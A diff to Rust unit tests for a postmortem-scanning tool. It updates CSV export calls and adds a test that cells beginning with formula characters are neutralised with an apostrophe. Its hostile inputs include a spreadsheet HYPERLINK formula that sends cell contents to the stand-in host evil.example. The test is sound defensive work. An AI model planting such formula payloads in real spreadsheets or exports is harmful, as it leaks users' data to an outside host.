@@ -71,7 +71,7 @@ fn a_missing_folder_is_an_error() {
 fn a_cancelled_scan_says_so() {
     let dir = folder();
     let progress = ScanProgress::default();
-    let files = find_postmortem_files(dir.path(), &progress).unwrap();
+    let files = find_postmortem_files(dir.path(), &progress).unwrap().files;
     assert_eq!(progress.found.load(std::sync::atomic::Ordering::Relaxed), 4);
     progress
         .cancel
@@ -152,7 +152,7 @@ fn csv_quotes_commas_quotes_and_newlines() {
             ..crate::model::ActionItem::default()
         },
     };
-    let text = to_csv(&[ReviewRecord::of(&entry, today())]).unwrap();
+    let text = to_csv(&[ReviewRecord::of(&entry, today())], false).unwrap();
     let mut reader = csv::Reader::from_reader(text.as_bytes());
     let headers = reader.headers().unwrap().clone();
     assert_eq!(headers.get(0), Some("file"));
@@ -164,7 +164,48 @@ fn csv_quotes_commas_quotes_and_newlines() {
         text.contains("\"Checkout \"\"payments\"\"\ndown\""),
         "{text}"
     );
-    assert!(to_csv(&[]).unwrap().starts_with("file,incident_id,"));
+    assert!(to_csv(&[], false).unwrap().starts_with("file,incident_id,"));
+}
+
+#[test]
+fn csv_cells_that_would_run_as_formulas_are_neutralised_unless_exact() {
+    let hostile = [
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
+        "+1+1",
+        "-2+3",
+        "@SUM(A1)",
+        "\tindented",
+        "\rreturn",
+    ];
+    for text in hostile {
+        let entry = ReviewItem {
+            path: "inc.ron".into(),
+            incident_title: text.to_owned(),
+            incident_id: String::new(),
+            severity: None,
+            incident_date: None,
+            item: crate::model::ActionItem {
+                action: text.to_owned(),
+                owner: text.to_owned(),
+                ..crate::model::ActionItem::default()
+            },
+        };
+        let records = [ReviewRecord::of(&entry, today())];
+        let read = |csv_text: String| {
+            let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
+            reader.records().next().unwrap().unwrap()
+        };
+        let safe = read(to_csv(&records, false).unwrap());
+        for column in [2, 4, 5] {
+            assert_eq!(
+                safe.get(column),
+                Some(format!("'{text}").as_str()),
+                "{text:?}"
+            );
+        }
+        let exact = read(to_csv(&records, true).unwrap());
+        assert_eq!(exact.get(4), Some(text), "{text:?}");
+    }
 }
 
 #[test]
